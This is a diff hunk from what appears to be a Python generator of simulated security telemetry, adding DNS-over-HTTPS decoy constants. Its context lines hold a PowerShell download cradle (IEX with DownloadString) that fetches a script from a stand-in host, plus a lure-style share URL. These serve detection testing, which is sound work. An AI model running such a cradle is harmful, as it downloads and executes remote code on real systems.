@@ -36,6 +36,12 @@ CRADLE_IP = "192.0.2.201"
 CRADLE_URL = f"http://{CRADLE_DOMAIN}/a.ps1"
 CRADLE_SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('{CRADLE_URL}')"
 
+# a user switched Chrome's "Use secure DNS" to Cloudflare: after one look-up in the clear, the browser's
+# look-ups go over HTTPS to Cloudflare's Chrome endpoint, past the DNS log (public addresses, not attacker's)
+DOH_HOST = workstation_short(6)  # ws-ops-009
+DOH_ENDPOINT = "chrome.cloudflare-dns.com"
+DOH_IPS = ("162.159.61.3", "172.64.41.3")
+
 ZAP_URL = "https://docs-share-portal.com/view/Q4-bonus-review.html"
 
 
